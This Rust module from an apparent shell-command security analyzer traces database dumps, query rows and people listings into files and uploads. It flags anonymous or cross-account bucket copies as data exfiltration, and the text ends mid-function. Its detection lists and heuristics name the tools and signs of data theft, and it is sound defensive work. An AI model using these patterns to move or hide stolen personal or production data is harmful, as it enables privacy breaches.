//! Data taken out of its store, followed to where it goes (issue 11): the rows a database
//! client prints, a database dump, a warehouse query's result or a service's listing of its
//! people, and where the command then puts them.
//!
//! Two halves:
//! - **at analysis time** ([`after_command`], [`note_write`]): the provenance the analyzer
//!   already keeps for a pipe ([`crate::model::Taint::producer`]) is kept on files too: a file
//!   a producer fills in the same command (`… > /tmp/c.json`, `pg_dump -f x.sql`, `psql -c
//!   "\copy t TO 'f'"`, the parts `split` writes, a file `gzip` compresses) carries its
//!   producer, and an upload of such a file, or of piped data, names it
//!   ([`crate::UploadFact::producer`]);
//! - **on the finished facts** ([`mark`]): each upload from a producer of sensitive data
//!   ([`classify`]) becomes an [`ExportFact`] — `sent` to another host by an HTTP client or a
//!   raw socket, or `foreign_store` when an object-store client puts it into a bucket judged
//!   another owner's ([`foreign`]); bucket-to-bucket and table-to-bucket copies are judged the
//!   same way; sensitive data written where the user or the web reads it is `local_copy`.
//!
//! The owner test ([`foreign`]) is by shape, never by a list of vendors: a bucket belongs to
//! whoever owns it, and people name their own buckets after their organisation or product. A
//! destination is judged somebody else's when the copy is anonymous (`--no-sign-request`:
//! only a bucket that lets anyone write accepts it), when it grants the destination bucket's
//! owner control of the objects (`--acl bucket-owner-full-control`: AWS's documented setting
//! for writing into another account's bucket), or when the data is production or personal and
//! the destination bucket's name shares no distinctive word with the names the command gives
//! its source (database, service, bucket, project, dataset, table), its profile, or the
//! project folder. Only the bucket counts, not the key: a vendor files uploads under a prefix
//! naming the customer (`gs://vendor-share/acme/…`).

use std::collections::BTreeSet;

use crate::analyzer::{clip, Analyzer, Inv};
use crate::facts::{CommandFact, ExportFact, ShellContext, ShellFacts};
use crate::model::Stream;
use crate::paths;

/// Database dump programs: their whole output is a database's content. pg_dump(1),
/// pg_dumpall(1), mysqldump(1), mariadb-dump(1), mongodump and mongoexport (MongoDB Database
/// Tools), and the site tools' dump verbs checked in [`dump_verb`].
const DUMPERS: &[&str] = &[
    "pg_dump",
    "pg_dumpall",
    "mysqldump",
    "mariadb-dump",
    "mysqlpump",
    "mongodump",
    "mongoexport",
];

/// SQL clients whose statement argument prints rows: psql(1) `-c`, mysql(1)/mariadb `-e`,
/// sqlite3(1), duckdb, clickhouse-client `--query`, snowsql `-q`, BigQuery's `bq query`,
/// cockroach `sql -e`, usql, mongosh, SQL Server's sqlcmd `-Q`/`-q`; the site tools' query
/// verbs are in [`query_verb`].
const SQL_CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "duckdb",
    "clickhouse-client",
    "clickhouse",
    "snowsql",
    "bq",
    "cockroach",
    "usql",
    "mongosh",
    "mongo",
    "sqlcmd",
];

/// Cloud warehouses: their data is never on this machine (BigQuery `bq`, Snowflake `snowsql`).
const WAREHOUSES: &[&str] = &["bq", "snowsql"];

/// Object-store clients: an upload by one goes to a bucket or remote whose owner [`foreign`]
/// judges (AWS CLI, gsutil, gcloud storage, rclone, azcopy, s3cmd, MinIO `mc`).
const STORE_CLIENTS: &[&str] = &["aws", "gsutil", "gcloud", "rclone", "azcopy", "s3cmd", "mc"];

/// Senders whose target is a host the user logs in to, or an address: judged elsewhere (the
/// remote and mail rules), not here.
const OWN_HOST_SENDERS: &[&str] = &[
    "scp", "sftp", "rsync", "ssh", "git", "mail", "mailx", "mutt", "sendmail", "msmtp", "swaks",
    "s-nail", "neomutt",
];

/// Nouns of tables and listings that hold people (customers, users, members, subscribers,
/// contacts, players, patients, employees, leads, profiles, accounts, addresses). Matched as
/// whole name tokens, singular or plural.
const PEOPLE_NOUNS: &[&str] = &[
    "user",
    "customer",
    "member",
    "subscriber",
    "contact",
    "person",
    "people",
    "player",
    "patient",
    "employee",
    "lead",
    "profile",
    "account",
    "address",
    "tester",
    "student",
    "client",
    "order_address",
];

/// Columns that identify a person (GDPR Art. 4(1) "identifiers such as a name, … an online
/// identifier"): e-mail, phone, names, postal address, birth date, national ids, device and
/// advertising ids.
const PEOPLE_COLUMNS: &[&str] = &[
    "email",
    "mail",
    "phone",
    "first_name",
    "last_name",
    "full_name",
    "firstname",
    "lastname",
    "address",
    "address_1",
    "postcode",
    "zip",
    "dob",
    "birthdate",
    "date_of_birth",
    "ssn",
    "device_id",
    "idfa",
    "gaid",
    "ip_address",
];

/// Name tokens that say nothing about who owns a store: environment words, storage and data
/// words, formats, regions, generic service words. Everything else of three letters or more
/// is distinctive (an organisation's, product's or team's name).
const GENERIC_WORDS: &[&str] = &[
    "prod",
    "production",
    "prd",
    "live",
    "dev",
    "development",
    "staging",
    "stg",
    "test",
    "qa",
    "uat",
    "s3",
    "gs",
    "bucket",
    "buckets",
    "storage",
    "store",
    "blob",
    "blobs",
    "data",
    "dataset",
    "datasets",
    "db",
    "database",
    "databases",
    "dump",
    "dumps",
    "backup",
    "backups",
    "bak",
    "export",
    "exports",
    "import",
    "imports",
    "upload",
    "uploads",
    "incoming",
    "outgoing",
    "inbox",
    "share",
    "shared",
    "public",
    "private",
    "files",
    "file",
    "archive",
    "archives",
    "log",
    "logs",
    "tmp",
    "temp",
    "sql",
    "csv",
    "json",
    "tsv",
    "gz",
    "parquet",
    "us",
    "eu",
    "asia",
    "east",
    "west",
    "north",
    "south",
    "central",
    "region",
    "main",
    "primary",
    "replica",
    "ro",
    "rw",
    "readonly",
    "service",
    "postgres",
    "postgresql",
    "mysql",
    "mongo",
    "redis",
    "app",
    "api",
    "web",
    "www",
    "com",
    "net",
    "org",
    "io",
    "ai",
    "cloud",
    "raw",
    "the",
    "and",
    "for",
    "new",
    "old",
    "copy",
    "sync",
    "drop",
    "dropbox",
    "tables",
    "table",
    "schema",
    "public",
    "default",
    "home",
    "users",
    "user",
    "customers",
    "customer",
    "internal",
    "local",
    "localhost",
    "amazonaws",
    "googleapis",
    "windows",
    "core",
    "oncall",
    "admin",
    "root",
    "src",
    "dist",
    "build",
    "site",
    "static",
    "assets",
    "media",
];

/// After a command ran: files it filled with data of its own keep their producer, and the
/// uploads it made name what produced the data they send.
pub(crate) fn after_command(
    a: &mut Analyzer,
    index: usize,
    name: &str,
    inv: &Inv,
    uploads_before: usize,
    out: &mut Stream,
) {
    let words: Vec<&str> = inv.rest().iter().map(|w| w.text.as_str()).collect();
    // A console on another machine or container (`ssh host 'mysqldump db'`, `docker exec db
    // pg_dump app`): its output is what the command run there prints, so a producer among the
    // commands it ran (recorded after it, with its wrapper) is the output's producer.
    if out.taint.producer.is_none() && out.text.is_none() && out.file.is_none() {
        let inner = (index + 1..a.facts.commands.len()).rev().find(|&i| {
            a.facts
                .commands
                .get(i)
                .is_some_and(|c| !c.wrappers.is_empty() && producer_program(&c.program, &c.argv))
        });
        if inner.is_some() {
            out.taint.producer = inner;
        }
    }
    // Files the producer writes by option (pg_dump -f, mysqldump -r, mongoexport -o, psql's
    // `\copy … TO 'file'`, `wp db export FILE`): as if its output were redirected there.
    if let Some(out) = output_file(name, &words) {
        if !out.is_empty() && out != "-" && !out.starts_with("/dev/") {
            let path = paths::join(&inv.cwd.text, &out);
            let s = Stream {
                taint: crate::model::Taint {
                    producer: Some(index),
                    ..Default::default()
                },
                ..Stream::default()
            };
            a.write_file_content(path, s, false);
        }
    }
    carry_file_producers(a, name, inv, &words);
    // `rclone rcat remote:path`: "Copies standard input to file on remote" (rclone docs).
    if name == "rclone" {
        if let Some(i) = words.iter().position(|w| *w == "rcat") {
            if let Some(dest) = words.iter().skip(i + 1).find(|w| !w.starts_with('-')) {
                let (s, env) = crate::programs::stdin_source_of(a, inv);
                a.upload(name, dest, s, env, &inv.evidence);
            }
        }
    }
    let stdin_producer = if inv.stdin.piped {
        inv.stdin.taint.producer
    } else {
        None
    };
    for k in uploads_before..a.facts.uploads.len() {
        let Some(u) = a.facts.uploads.get(k) else {
            continue;
        };
        if u.producer.is_some() {
            continue;
        }
        let src = u.source.clone().unwrap_or_default();
        let producer = if src == "<stdin>"
            || src.starts_with("<piped from ")
            || src.starts_with("<fetched ssh://")
        {
            stdin_producer
        } else {
            file_producer(a, &src)
        };
        let Some(ev) = producer
            .filter(|i| *i != index)
            .and_then(|i| a.facts.commands.get(i))
            .map(|c| c.evidence.clone())
        else {
            continue;
        };
        if let Some(u) = a.facts.uploads.get_mut(k) {
            u.producer = Some(ev);
        }
    }
}

/// The producer of a file written earlier in the command: by its path, or for a glob (`for f
/// in /tmp/c_*`) by the parts `split` wrote under a prefix the glob matches.
fn file_producer(a: &Analyzer, path: &str) -> Option<usize> {
    if let Some(p) = a.files.get(path).and_then(|s| s.taint.producer) {
        return Some(p);
    }
    if !path.contains(['*', '?', '[']) {
        return None;
    }
    a.files.iter().find_map(|(k, s)| {
        let prefix = k.strip_suffix('*')?;
        let part = format!("{prefix}aa");
        (crate::programs::glob_match(path, &part) || crate::programs::glob_match(path, k))
            .then_some(s.taint.producer)
            .flatten()
    })
}

/// Programs that turn files into files of the same data: split(1) writes its input in parts
/// named PREFIX + `aa`, `ab`, … (recorded as `PREFIX*`); gzip(1), xz(1), bzip2(1), zstd(1)
/// replace FILE by FILE.gz, .xz, .bz2, .zst. The parts carry the input's producer.
fn carry_file_producers(a: &mut Analyzer, name: &str, inv: &Inv, words: &[&str]) {
    let ops: Vec<&str> = words
        .iter()
        .copied()
        .filter(|w| !w.starts_with('-') || *w == "-")
        .collect();
    match name {
        "split" => {
            // split [OPTION]... [FILE [PREFIX]]: option values are skipped by taking the last
            // two operands that are not numbers.
            let ops: Vec<&str> = ops.into_iter().filter(|w| !size_value(w)).collect();
            let (input, prefix) = match ops.as_slice() {
                [] => ("-", "x"),
                [i] => (*i, "x"),
                [.., i, p] => (*i, *p),
            };
            let producer = if input == "-" {
                inv.stdin.taint.producer
            } else {
                file_producer(a, &paths::join(&inv.cwd.text, input))
            };
            if let Some(p) = producer {
                let key = format!("{}*", paths::join(&inv.cwd.text, prefix));
                let mut s = Stream::default();
                s.taint.producer = Some(p);
                a.files.insert(key, s);
            }
        }
        "gzip" | "xz" | "bzip2" | "zstd" | "pigz" => {
            if words
                .iter()
                .any(|w| matches!(*w, "-d" | "-c" | "--stdout" | "--decompress"))
            {
                return;
            }
            let ext = match name {
                "xz" => ".xz",
                "bzip2" => ".bz2",
                "zstd" => ".zst",
                _ => ".gz",
            };
            for f in ops {
                let path = paths::join(&inv.cwd.text, f);
                if let Some(p) = file_producer(a, &path) {
                    let mut s = Stream::default();
                    s.taint.producer = Some(p);
                    a.files.insert(format!("{path}{ext}"), s);
                }
            }
        }
        _ => {}
    }
}

/// An option value of split(1) (`-l 5000`, `-b 10M`, `-n 4`): a number with an optional
/// size suffix (K, M, G, T with optional B or iB).
fn size_value(w: &str) -> bool {
    let digits = w.trim_start_matches(|c: char| c.is_ascii_digit());
    digits.len() < w.len()
        && matches!(
            digits.to_ascii_uppercase().as_str(),
            "" | "K" | "M" | "G" | "T" | "KB" | "MB" | "GB" | "TB" | "KIB" | "MIB" | "GIB" | "TIB"
        )
}

/// The file a producer writes by option rather than to stdout: pg_dump/pg_dumpall `-f FILE`,
/// `--file=FILE`; mysqldump/mariadb-dump `-r FILE`, `--result-file=FILE`; mongoexport `-o`,
/// `--out`; drush `sql:dump --result-file`; `wp db export FILE` (WP-CLI); psql's
/// `\copy … TO 'FILE'` meta-command (psql(1) "\copy").
fn output_file(name: &str, words: &[&str]) -> Option<String> {
    let opt = |short: &str, long: &str| -> Option<String> {
        words.iter().enumerate().find_map(|(i, w)| {
            if *w == short || *w == long {
                return words.get(i + 1).map(|v| v.to_string());
            }
            if let Some(v) = w.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
                return Some(v.to_string());
            }
            (!short.is_empty() && w.len() > short.len() && w.starts_with(short) && short.len() == 2)
                .then(|| w.get(2..).map(str::to_string))
                .flatten()
        })
    };
    match name {
        "pg_dump" | "pg_dumpall" => opt("-f", "--file"),
        "mysqldump" | "mariadb-dump" => opt("-r", "--result-file"),
        "mongoexport" => opt("-o", "--out"),
        "drush" if dump_verb(name, words) => opt("", "--result-file"),
        "wp" if dump_verb(name, words) => {
            let i = words.iter().position(|w| *w == "export")?;
            words
                .iter()
                .skip(i + 1)
                .find(|w| !w.starts_with('-'))
                .map(|w| w.to_string())
        }
        "psql" => words.iter().find_map(|w| copy_to_file(w)),
        _ => {
            // A service CLI's listing of people written by an option naming a file
            // (`fastlane pilot export --testers_file_path F`, `… export --output F`).
            let argv: Vec<String> = std::iter::once(name.to_string())
                .chain(words.iter().map(|w| w.to_string()))
                .collect();
            if !lists_people(&argv) {
                return None;
            }
            words.iter().enumerate().find_map(|(i, w)| {
                let (opt, val) = match w.split_once('=') {
                    Some((o, v)) => (o, Some(v.to_string())),
                    None => (*w, words.get(i + 1).map(|v| v.to_string())),
                };
                let o = opt.trim_start_matches('-').to_ascii_lowercase();
                // A file option, not a location option (`wp --path=/var/www/site` is the
                // install the command acts on).
                (opt.starts_with("--")
                    && (o.ends_with("file")
                        || o.ends_with("file_path")
                        || o.ends_with("file-path")
                        || matches!(o.as_str(), "output" | "out" | "output-file" | "outfile")))
                .then_some(val)
                .flatten()
            })
        }
    }
}

/// A program whose output is a store's data: a dumper, an SQL client or a site tool's dump or
/// query verb (what [`classify`] then judges).
pub(crate) fn producer_program(program: &str, argv: &[String]) -> bool {
    let words: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
    DUMPERS.contains(&program)
        || SQL_CLIENTS.contains(&program)
        || dump_verb(program, &words)
        || query_verb(program, &words)
}

/// `\copy TABLE TO 'FILE'` (psql(1) meta-command): the file, when it is one (not `STDOUT`,
/// not `PROGRAM`).
fn copy_to_file(text: &str) -> Option<String> {
    let t = text.trim_start();
    let rest = t
        .strip_prefix("\\copy")
        .or_else(|| t.strip_prefix("\\COPY"))?;
    let lower = rest.to_ascii_lowercase();
    let at = lower.find(" to ")?;
    let after = rest.get(at + 4..)?.trim_start();
    if after.to_ascii_lowercase().starts_with("stdout")
        || after.to_ascii_lowercase().starts_with("program")
    {
        return None;
    }
    let q = after.chars().next()?;
    if q == '\'' || q == '"' {
        let body = after.get(1..)?;
        return body.split(q).next().map(str::to_string);
    }
    after.split_whitespace().next().map(str::to_string)
}

/// A site tool's dump verb: WP-CLI `wp db export`, drush `sql:dump`/`sql-dump`.
fn dump_verb(name: &str, words: &[&str]) -> bool {
    match name {
        "wp" => words.windows(2).any(|w| w == ["db", "export"]),
        "drush" => words.iter().any(|w| matches!(*w, "sql:dump" | "sql-dump")),
        _ => false,
    }
}

/// A site tool's query verb: WP-CLI `wp db query`, drush `sql:query`/`sqlq`/`sql-query`,
/// ddev's `ddev mysql`/`ddev psql`.
fn query_verb(name: &str, words: &[&str]) -> bool {
    match name {
        "wp" => words.windows(2).any(|w| w == ["db", "query"]),
        "drush" => words
            .iter()
            .any(|w| matches!(*w, "sql:query" | "sqlq" | "sql-query")),
        "ddev" => words
            .first()
            .is_some_and(|w| matches!(*w, "mysql" | "psql")),
        _ => false,
    }
}

/// Records a file written from a stream with a producer: [`mark`] keeps it as a `local_copy`
/// when it lands where the user or the web reads it and the data counts.
pub(crate) fn note_write(a: &mut Analyzer, path: &str, s: &Stream) {
    let Some(ev) = s
        .taint
        .producer
        .and_then(|i| a.facts.commands.get(i))
        .map(|c| c.evidence.clone())
    else {
        return;
    };
    if a.facts.exports.len() >= 64 {
        return;
    }
    a.facts.exports.push(ExportFact {
        kind: "written".into(),
        data: String::new(),
        source: ev,
        target: path.to_string(),
        why: String::new(),
        evidence: String::new(),
    });
}

/// What a producing command's data is, when it counts: `dump`, `rows` (of people, or of a
/// production database), `people` (a service's listing of its people).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Class {
    pub data: &'static str,
    /// The data holds people (a people-named table dumped or queried, identifying columns
    /// selected, a listing of people).
    pub people: bool,
    /// The source is production by name (`tier.rs` markers on its connection, service or
    /// database).
    pub prod: bool,
    /// The source is a hosted store (a cloud warehouse, a service's API), never this machine.
    pub hosted: bool,
}

/// Name tokens (lower case, split at every character that is not a letter, digit or `_`).
fn idents(s: &str) -> impl Iterator<Item = String> + '_ {
    s.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|t| !t.is_empty())
        .map(|t| t.to_ascii_lowercase())
}

/// A token names people: a [`PEOPLE_NOUNS`] noun, alone or as the last part of a
/// qualified or prefixed name (`wp_users`, `crm.customers`, `auth_user`).
fn people_name(t: &str) -> bool {
    let last = t.rsplit(['.', ':']).next().unwrap_or(t);
    PEOPLE_NOUNS.iter().any(|n| {
        let plural = format!("{n}s");
        let plural_es = format!("{n}es");
        [n.to_string(), plural, plural_es].iter().any(|f| {
            last == f.as_str()
                || last.ends_with(&format!("_{f}"))
                || last.ends_with(&format!("-{f}"))
        })
    })
}

/// The SQL statements among a command's words (a word holding `select … from` or `\copy`).
fn statements(argv: &[String]) -> Vec<&str> {
    argv.iter()
        .map(String::as_str)
        .filter(|w| {
            let l = w.to_ascii_lowercase();
            (l.contains("select ") && l.contains(" from ")) || l.trim_start().starts_with("\\copy")
        })
        .collect()
}

/// A statement that reads rows of people: `\copy PEOPLE_TABLE TO …`, or a SELECT from a
/// people-named table, or one selecting identifying columns ([`PEOPLE_COLUMNS`]). A SELECT of
/// aggregates only (`select count(*) from users`) prints no person.
fn people_statement(st: &str) -> bool {
    let l = st.to_ascii_lowercase();
    if let Some(rest) = l.trim_start().strip_prefix("\\copy") {
        return rest
            .split_whitespace()
            .next()
            .is_some_and(|t| people_name(t.trim_matches(['(', '"', '`'])));
    }
    let Some(sel) = l.find("select ") else {
        return false;
    };
    let Some(from) = l.get(sel..).and_then(|r| r.find(" from ")).map(|f| f + sel) else {
        return false;
    };
    let cols = l.get(sel + 7..from).unwrap_or("");
    if aggregates_only(cols) {
        return false;
    }
    let tables = l.get(from + 6..).unwrap_or("");
    let table = tables
        .split_whitespace()
        .next()
        .unwrap_or("")
        .trim_matches(['`', '"', '(', ')', ';']);
    people_name(table) || idents(cols).any(|c| PEOPLE_COLUMNS.contains(&c.as_str()))
}

/// The select list holds only aggregate calls (`count(*)`, `sum(x), avg(y)`).
fn aggregates_only(cols: &str) -> bool {
    let t = cols.trim();
    !t.is_empty()
        && t.split(',').all(|c| {
            let c = c.trim();
            [
                "count(",
                "sum(",
                "avg(",
                "min(",
                "max(",
                "count (",
                "approx_count_distinct(",
            ]
            .iter()
            .any(|f| c.starts_with(f))
        })
}

/// The data a command produces, when it is a database's, a warehouse's or a service's people
/// and counts as sensitive (module docs); `None` for anything else.
pub(crate) fn classify(c: &CommandFact, ctx: &ShellContext) -> Option<Class> {
    let argv = &c.argv;
    let words: Vec<&str> = argv.iter().skip(1).map(String::as_str).collect();
    let prod = crate::tier::names_prod_target(ctx, &c.program, &words, &c.cwd)
        || argv.iter().skip(1).any(|w| {
            idents(w).any(|t| t.split('_').any(|p| crate::tier::PROD_WORDS.contains(&p)))
                && !w.contains(' ')
        });
    let hosted = WAREHOUSES.contains(&c.program.as_str());
    let people_arg = argv
        .iter()
        .skip(1)
        .filter(|w| !w.contains(' '))
        .any(|w| idents(w).any(|t| people_name(&t)));
    if DUMPERS.contains(&c.program.as_str()) || dump_verb(&c.program, &words) || sqlite_dump(c) {
        if argv
            .iter()
            .any(|w| matches!(w.as_str(), "--help" | "-?" | "--version" | "-V"))
        {
            return None;
        }
        // Only the schema (`pg_dump -s`, `mysqldump --no-data`) holds no rows.
        if argv
            .iter()
            .any(|w| matches!(w.as_str(), "-s" | "--schema-only" | "--no-data" | "-d"))
            && c.program != "mongodump"
            && c.program != "mongoexport"
        {
            return None;
        }
        return Some(Class {
            data: "dump",
            people: people_arg,
            prod,
            hosted,
        });
    }
    if SQL_CLIENTS.contains(&c.program.as_str()) || query_verb(&c.program, &words) {
        let sts = statements(argv);
        if sts.is_empty() {
            return None;
        }
        let people = sts.iter().any(|s| people_statement(s));
        let rows = sts.iter().any(|s| {
            let l = s.to_ascii_lowercase();
            let cols = l
                .find("select ")
                .and_then(|i| l.get(i + 7..))
                .and_then(|r| r.find(" from ").and_then(|f| r.get(..f)))
                .unwrap_or("");
            !aggregates_only(cols)
        });
        if people || (prod && rows) {
            return Some(Class {
                data: "rows",
                people,
                prod,
                hosted,
            });
        }
        return None;
    }
    if lists_people(argv) {
        return Some(Class {
            data: "people",
            people: true,
            prod,
            hosted: true,
        });
    }
    None
}

/// `sqlite3 DB .dump` (sqlite3(1) dot-command).
fn sqlite_dump(c: &CommandFact) -> bool {
    c.program == "sqlite3" && c.argv.iter().any(|a| a.trim().starts_with(".dump"))
}

/// A service CLI's listing or export of its people (`stripe customers list`, `auth0 users
/// search`, `fastlane pilot export`, `clerk users export`): a people noun among the first
/// words and a listing verb (shell.rego `lists_people`, the same shape).
fn lists_people(argv: &[String]) -> bool {
    let noun = argv.iter().skip(1).take(5).any(|w| {
        let l = w.to_ascii_lowercase();
        let l = l.rsplit([':', '.']).next().unwrap_or(&l).to_string();
        people_name(&l) && !l.contains('_')
    });
    let verb = argv.iter().skip(1).any(|w| {
        let l = w.to_ascii_lowercase();
        let l = l.rsplit(':').next().unwrap_or(&l).to_string();
        matches!(
            l.as_str(),
            "list" | "ls" | "export" | "search" | "dump" | "dumpdata" | "all"
        )
    });
    let tester_export = argv
        .iter()
        .any(|w| w.contains("testers_file") || w.contains("users_file"));
    (noun && verb) || tester_export
}

/// The distinctive name tokens of `s` (module docs: three letters or more, not a
/// [`GENERIC_WORDS`] or [`PEOPLE_NOUNS`] word, trailing digits dropped).
fn distinctive(s: &str) -> impl Iterator<Item = String> + '_ {
    s.split(|c: char| !c.is_ascii_alphanumeric())
        .map(|t| {
            t.trim_end_matches(|c: char| c.is_ascii_digit())
                .to_ascii_lowercase()
        })
        .filter(|t| t.len() >= 3 && !GENERIC_WORDS.contains(&t.as_str()) && !people_name(t))
}

/// The bucket (or rclone remote and its first folder) a store location names: `s3://B/…`,
/// `gs://B`, `https://s3.REGION.amazonaws.com/B/…`, `https://B.s3.amazonaws.com/…`,
/// `https://storage.googleapis.com/B/…`, `REMOTE:B/…`.
pub(crate) fn bucket_of(target: &str) -> Option<String> {
    let lower = target.to_ascii_lowercase();
    for p in ["s3://", "gs://", "r2://", "b2://", "az://", "azure://"] {
        if let Some(r) = lower.strip_prefix(p) {
            return r
                .split('/')
                .next()
                .filter(|b| !b.is_empty())
                .map(str::to_string);
        }
    }
    if let Some(r) = lower
        .strip_prefix("https://")
        .or_else(|| lower.strip_prefix("http://"))
    {
        let (host, path) = r.split_once('/').unwrap_or((r, ""));
        let first = path.split(['/', '?']).next().unwrap_or("");
        if host.starts_with("s3.") || host.starts_with("s3-") || host == "storage.googleapis.com" {
            return (!first.is_empty()).then(|| first.to_string());
        }
        if let Some(b) = host.split_once(".s3.").map(|(b, _)| b) {
            return Some(b.to_string());
        }
        if host.ends_with(".blob.core.windows.net") {
            return host.split('.').next().map(str::to_string);
        }
        return None;
    }
    let (remote, rest) = target.split_once(':')?;
    if remote.is_empty() || remote.contains('/') {
        return None;
    }
    let first = rest.trim_start_matches('/').split('/').next().unwrap_or("");
    Some(format!("{remote}:{first}").to_ascii_lowercase())
}

/// Why a store destination is judged another owner's (module docs), or `None`.
/// `cmd` is the copying command's words, `owner` the names the command gives its source.
fn foreign(
    dest: &str,
    cmd: &[String],
    owner: &[String],
    sensitive: bool,
    ctx: &ShellContext,
) -> Option<(String, bool)> {
    if cmd.iter().any(|w| w == "--no-sign-request") {
        return Some((
            "an anonymous upload (--no-sign-request): only a bucket anyone may write to accepts it"
                .into(),
            true,
        ));
    }
    if cmd
        .windows(2)
        .any(|w| w[0] == "--acl" && w[1] == "bucket-owner-full-control")
        || cmd.iter().any(|w| w == "--acl=bucket-owner-full-control")
    {
        return Some(("--acl bucket-owner-full-control hands the objects to the destination bucket's owner, another account".into(), true));
    }
    if !sensitive {
        return None;
    }
    let bucket = bucket_of(dest)?;
    let dest_words: BTreeSet<String> = distinctive(&bucket).collect();
    if dest_words.is_empty() {
        return None;
    }
    // The source must name itself: a bare `pg_dump prod` says nothing of its owner.
    if !owner.iter().any(|n| distinctive(n).next().is_some()) {
        return None;
    }
    let mut names: Vec<String> = owner.to_vec();
    // The profile picks the account's credentials; the project folder is the user's own name
    // for the work.
    if let Some(i) = cmd.iter().position(|w| w == "--profile") {
        if let Some(p) = cmd.get(i + 1) {
            names.push(p.clone());
        }
    }
    if let Some(p) = cmd.iter().find_map(|w| w.strip_prefix("--profile=")) {
        names.push(p.to_string());
    }
    if let Some(d) = ctx.project_dir.as_deref() {
        names.push(paths::basename(d).to_string());
    }
    let owner_words: BTreeSet<String> = names
        .iter()
        .flat_map(|n| distinctive(n).collect::<Vec<_>>())
        .collect();
    if owner_words.is_empty() {
        return None;
    }
    let shared = dest_words.iter().any(|d| {
        owner_words.iter().any(|o| {
            o == d
                || (o.len() >= 4
                    && d.len() >= 4
                    && (o.starts_with(d.as_str()) || d.starts_with(o.as_str())))
        })
    });
    (!shared).then(|| {
        (
            format!(
                "the bucket {bucket} shares no name with the source ({})",
                owner_words.iter().cloned().collect::<Vec<_>>().join(", ")
            ),
            false,
        )
    })
}

/// The kind of a store export by the strength of the owner test: `foreign_store` when the
/// command itself says the bucket is another's (anonymous, cross-account ACL), `unowned_store`
/// when only the names disagree (weaker: an organisation may name a bucket after anything).
fn store_kind(strong: bool) -> String {
    if strong {
        "foreign_store"
    } else {
        "unowned_store"
    }
    .to_string()
}

/// The names a producing command gives its source: its words that are not options, SQL text
/// or file paths (a service, database, host, table or DSN variable name).
fn source_names(c: &CommandFact) -> Vec<String> {
    let mut out = Vec::new();
    for w in c.argv.iter().skip(1) {
        if w.contains(' ') && !w.contains('=') {
            continue;
        }
        if w.starts_with('/') || w.starts_with('.') {
            continue;
        }
        let w = w.trim_start_matches('-');
        out.push(w.to_string());
    }
    out
}

/// Turns the uploads from producers, the store-to-store copies and the files producers wrote
/// into [`ExportFact`]s (module docs). Run once on the finished facts.
pub(crate) fn mark(f: &mut ShellFacts, ctx: &ShellContext) {
    let written: Vec<ExportFact> = f
        .exports
        .drain(..)
        .filter(|e| e.kind == "written")
        .collect();
    let mut out: Vec<ExportFact> = Vec::new();
    let of = |ev: &str| f.commands.iter().find(|c| c.evidence == ev);
    for u in &f.uploads {
        let Some(p) = u.producer.as_deref() else {
            continue;
        };
        let Some(c) = of(p) else { continue };
        let Some(class) = classify(c, ctx) else {
            continue;
        };
        if OWN_HOST_SENDERS.contains(&u.program.as_str()) {
            continue;
        }
        if STORE_CLIENTS.contains(&u.program.as_str()) {
            let cmd: Vec<String> = f
                .commands
                .iter()
                .find(|k| clip(&k.evidence) == u.evidence)
                .map(|k| k.argv.clone())
                .unwrap_or_default();
            let sensitive = class.prod || class.people;
            if let Some((why, strong)) = foreign(&u.target, &cmd, &source_names(c), sensitive, ctx)
            {
                out.push(ExportFact {
                    kind: store_kind(strong),
                    data: class.data.into(),
                    source: clip(&c.evidence),
                    target: u.target.clone(),
                    why,
                    evidence: u.evidence.clone(),
                });
            }
            continue;
        }
        // A production query's rows that hold no person (job statuses posted to a chat hook)
        // are left to the upload rules (`shell/output-upload`, `shell/data-upload` ask).
        if class.data == "rows" && !class.people {
            continue;
        }
        out.push(ExportFact {
            kind: "sent".into(),
            data: class.data.into(),
            source: clip(&c.evidence),
            target: u.target.clone(),
            why: describe(&class),
            evidence: u.evidence.clone(),
        });
    }
    // A dump file named as production's (`oak_prod-2026-12-01.sql.gz`, `shop-prod.dump`) put
    // into a store: judged by its own name as the source's.
    for u in &f.uploads {
        if u.producer.is_some() || !STORE_CLIENTS.contains(&u.program.as_str()) {
            continue;
        }
        let Some(src) = u.source.as_deref().filter(|s| s.starts_with('/')) else {
            continue;
        };
        let name = paths::basename(src);
        if !dump_file_name(name) {
            continue;
        }
        let prod = name
            .split(|ch: char| !ch.is_ascii_alphanumeric())
            .any(|t| crate::tier::PROD_WORDS.contains(&t.to_ascii_lowercase().as_str()));
        let cmd: Vec<String> = f
            .commands
            .iter()
            .find(|k| clip(&k.evidence) == u.evidence)
            .map(|k| k.argv.clone())
            .unwrap_or_default();
        if let Some((why, strong)) = foreign(&u.target, &cmd, &[name.to_string()], prod, ctx) {
            out.push(ExportFact {
                kind: store_kind(strong),
                data: "dump".into(),
                source: src.to_string(),
                target: u.target.clone(),
                why,
                evidence: u.evidence.clone(),
            });
        }
    }
    for c in &f.commands {
        if let Some(e) = store_copy(c, ctx) {
            out.push(e);
        }
    }
    for w in written {
        let Some(c) = of(&w.source) else { continue };
        let Some(class) = classify(c, ctx) else {
            continue;
        };
        if let Some(place) = local_place(&w.target, ctx, &class) {
            out.push(ExportFact {
                kind: "local_copy".into(),
                data: class.data.into(),
                source: clip(&c.evidence),
                target: w.target.clone(),
                why: format!("{} written {place}", describe(&class)),
                evidence: clip(&c.evidence),
            });
        }
    }
    for e in out {
        if !f.exports.contains(&e) {
            f.exports.push(e);
        }
    }
}

/// A file named as a database dump: pg_dump's custom format (`.dump`, `.pgdump`), SQL text
/// (`.sql`), mongodump's BSON, a Redis snapshot (`.rdb`), optionally compressed (the same
/// shapes as shell.rego's database-exfiltration file rule, plus plain `.sql`).
fn dump_file_name(name: &str) -> bool {
    let l = name.to_ascii_lowercase();
    let l = ["gz", "bz2", "xz", "zst", "zip"]
        .iter()
        .find_map(|e| l.strip_suffix(&format!(".{e}")))
        .unwrap_or(&l);
    [".sql", ".dump", ".pgdump", ".bson", ".rdb"]
        .iter()
        .any(|e| l.ends_with(e))
}

/// What the data is, for the reason.
fn describe(c: &Class) -> String {
    let what = match c.data {
        "dump" => "a database dump",
        "people" => "a listing of people",
        _ => "rows of a database",
    };
    let mut s = what.to_string();
    if c.prod {
        s.push_str(" of production");
    }
    if c.people && c.data != "people" {
        s.push_str(" holding people's data");
    }
